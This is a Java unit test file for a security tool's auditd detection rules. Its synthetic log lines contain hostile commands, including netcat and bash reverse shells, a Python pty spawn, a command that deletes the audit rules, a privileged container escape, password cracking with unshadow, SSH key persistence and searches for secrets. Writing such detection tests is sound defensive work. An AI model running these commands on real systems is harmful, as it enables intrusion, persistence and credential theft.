package io.cybershield.shield.gateway.triage.rules;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Set;

import static io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.fired;
import static io.cybershield.shield.gateway.triage.rules.ShippedRules.firedAlone;
import static org.assertj.core.api.Assertions.assertThat;

/** auditd records: EXECVE arguments, hex-encoded process titles, companion SYSCALL records. */
class AuditdRulesTest {

  private static String hex(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.replace(' ', '\0').getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  /** auditd's encoding of one argument with special characters: plain hex of the bytes. */
  private static String hexPlain(String text) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(java.nio.charset.StandardCharsets.UTF_8)) {
      out.append(String.format("%02X", b));
    }
    return out.toString();
  }

  @Test
  void auditRulesDeletedAsArgumentsAndAsProcessTitle() {
    List<Set<String>> event = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583200.100:9001): arch=c000003e syscall=59 success=yes exit=0 auid=1002 "
            + "uid=0 euid=0 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" key=\"audit_cfg\"",
        "type=EXECVE msg=audit(1764583200.100:9001): argc=2 a0=\"auditctl\" a1=\"-D\"",
        "type=PROCTITLE msg=audit(1764583200.100:9001): proctitle=" + hex("auditctl -D"));
    assertThat(event).allMatch(ids -> ids.stream().anyMatch(id -> id.startsWith("shield-auditd-evasion")));
  }

  @Test
  void netcatReverseShellIncludingItsSyscallRecord() {
    List<Set<String>> event = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583300.200:9100): arch=c000003e syscall=59 success=yes exit=0 auid=4294967295 "
            + "uid=33 euid=33 comm=\"nc\" exe=\"/usr/bin/nc.traditional\" key=\"exec\"",
        "type=EXECVE msg=audit(1764583300.200:9100): argc=5 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\" a3=\"198.51.100.4\" "
            + "a4=\"4444\"");
    assertThat(event.get(0)).contains("shield-auditd-exec-005");
    assertThat(event.get(1)).contains("shield-auditd-exec-003");
  }

  @Test
  void hexEncodedPythonPtyArgument() {
    String line = "type=EXECVE msg=audit(1764583400.300:9200): argc=3 a0=\"python3\" a1=\"-c\" a2="
        + hexPlain("import pty;pty.spawn('/bin/bash')");
    assertThat(firedAlone(AUDITD, line)).contains("shield-auditd-exec-004");
  }

  @Test
  void benignAdministrationAndBackupsAreNotFlagged() {
    List<Set<String>> benign = fired(AUDITD,
        "type=SYSCALL msg=audit(1764583500.400:9300): arch=c000003e syscall=59 success=yes exit=0 auid=1001 uid=0 "
            + "euid=0 comm=\"auditctl\" exe=\"/usr/sbin/auditctl\" key=\"audit_cfg\"",
        "type=EXECVE msg=audit(1764583500.400:9300): argc=2 a0=\"auditctl\" a1=\"-l\"",
        "type=EXECVE msg=audit(1764583510.400:9310): argc=5 a0=\"restic\" a1=\"backup\" a2=\"/srv\" a3=\"--tag\" "
            + "a4=\"nightly\"",
        "type=PROCTITLE msg=audit(1764583520.400:9320): proctitle=" + hex("rsync -a --delete /srv/ backup:/vol/"),
        "type=USER_AUTH msg=audit(1764583530.400:9330): pid=7712 uid=0 auid=4294967295 ses=4294967295 "
            + "msg='op=PAM:authentication acct=\"postgres\" exe=\"/usr/sbin/sshd\" addr=10.30.4.61 res=failed'");
    assertThat(benign).allMatch(Set::isEmpty);
  }

  // ---------------------------------------------------------------- round 2 (lines written here)

  private static String argvHex(String text) {
    return hexPlain(text);
  }

  @Test
  void hexEncodedBashDashCArgumentIsAReverseShell() {
    String line = "type=EXECVE msg=audit(1767100000.001:7001): argc=3 a0=\"bash\" a1=\"-c\" a2="
        + argvHex("bash -i >& /dev/udp/198.51.100.30/9001 0>&1");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, line)).contains("shield-auditd-exec-001");
  }

  @Test
  void crackingSuidSearchAndCrontabFromTmp() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.002:7002): argc=3 "
        + "a0=\"hashcat\" a1=\"-m\" a2=\"1800\" a3=\"/var/tmp/h.txt\"")).contains("shield-auditd-cred-005");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.003:7003): argc=3 "
        + "a0=\"unshadow\" a1=\"/etc/passwd\" a2=\"/etc/shadow\"")).contains("shield-auditd-cred-005");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.004:7004): argc=5 auid=1201 "
        + "a0=\"find\" a1=\"/\" a2=\"-perm\" a3=\"-u=s\" a4=\"-ls\"")).contains("shield-auditd-disc-002");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=PROCTITLE msg=audit(1767100000.005:7005): proctitle="
        + hex("crontab /dev/shm/.j"))).contains("shield-auditd-persist-005");
  }

  @Test
  void containerEscapeMinerSuidCopyAndPreload() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.006:7006): argc=7 a0=\"podman\" "
        + "a1=\"run\" a2=\"--privileged\" a3=\"-v\" a4=\"/:/mnt\" a5=\"busybox\" a6=\"sh\""))
        .contains("shield-auditd-privesc-004");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.007:7007): argc=4 a0=\"./kworkerd\" "
        + "a1=\"-o\" a2=\"xmr.pool-example.net:3333\" a3=\"--cpu-max-threads-hint=90\""))
        .contains("shield-auditd-impact-003");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.008:7008): argc=3 a0=\"chmod\" "
        + "a1=\"u+s\" a2=\"/tmp/.bash\"")).contains("shield-auditd-privesc-006");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SYSCALL msg=audit(1767100000.009:7009): arch=c000003e syscall=2 "
        + "success=yes exit=3 auid=1201 uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"systemwide_preloads\""))
        .contains("shield-auditd-persist-006");
  }

  @Test
  void promiscuousModeAndAuditdStoppedByASession() {
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=ANOM_PROMISCUOUS msg=audit(1767100000.010:7010): dev=eth0 "
        + "prom=256 old_prom=0 auid=1201 uid=0 gid=0 ses=9")).contains("shield-auditd-cred-007");
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SERVICE_STOP msg=audit(1767100000.011:7011): pid=1 uid=0 "
        + "auid=1201 ses=9 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? "
        + "terminal=? res=success'")).contains("shield-auditd-evasion-007");
  }

  @Test
  void round2BenignLinesStayQuiet() {
    // the same stop at shutdown (no login session), a bridge entering promiscuous mode for the container runtime,
    // an ordinary chmod and a package-installed setuid helper
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=SERVICE_STOP msg=audit(1767100000.012:7012): pid=1 uid=0 "
        + "auid=4294967295 ses=4294967295 msg='unit=auditd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
        + "hostname=? addr=? terminal=? res=success'")).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=ANOM_PROMISCUOUS msg=audit(1767100000.013:7013): dev=veth1a2b "
        + "prom=256 old_prom=0 auid=4294967295 uid=0 gid=0 ses=4294967295")).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.014:7014): argc=3 a0=\"chmod\" "
        + "a1=\"0755\" a2=\"/usr/local/bin/report\"")).isEmpty();
    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.AUDITD, "type=EXECVE msg=audit(1767100000.015:7015): argc=4 a0=\"tar\" "
        + "a1=\"-czf\" a2=\"/backup/etc.tgz\" a3=\"/etc\"")).isEmpty();
  }

  @Test
  void reverseTunnelSecretHuntingAndOpensslPipe() {
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.100:9900): argc=6 a0=\"ssh\" a1=\"-fN\" "
        + "a2=\"-R\" a3=\"7022:127.0.0.1:22\" a4=\"relay@203.0.113.90\" a5=\"-q\"")).contains("shield-auditd-c2-010");
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.200:9901): argc=3 a0=\"ssh\" "
        + "a1=\"admin@10.1.2.3\" a2=\"uptime\"")).doesNotContain("shield-auditd-c2-010");
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.300:9902): argc=5 a0=\"grep\" a1=\"-ri\" "
        + "a2=\"aws_access_key_id\" a3=\"/home\" a4=\"/etc\"")).contains("shield-auditd-cred-010");
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.400:9903): argc=4 a0=\"find\" a1=\"/\" "
        + "a2=\"-name\" a3=\"id_rsa\"")).contains("shield-auditd-cred-010");
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.500:9904): argc=3 a0=\"grep\" a1=\"-i\" "
        + "a2=\"error\"")).doesNotContain("shield-auditd-cred-010");
    assertThat(firedAlone(AUDITD, "type=EXECVE msg=audit(1764590000.600:9905): argc=5 a0=\"openssl\" "
        + "a1=\"s_client\" a2=\"-connect\" a3=\"203.0.113.91:8443\" a4=\"-quiet\"")).contains("shield-auditd-exfil-010");
  }

  @Test
  void sudoCommandRecordAppendingToAuthorizedKeys() {
    String line = "type=USER_CMD msg=audit(1764590100.100:9910): pid=4410 uid=1005 auid=1005 ses=3 msg='cwd=\"/tmp\" "
        + "cmd=" + hexPlain("/usr/bin/tee -a /root/.ssh/authorized_keys") + " exe=\"/usr/bin/sudo\" terminal=pts/1 "
        + "res=success'";
    assertThat(firedAlone(AUDITD, line)).contains("shield-auditd-persist-004");
  }
}
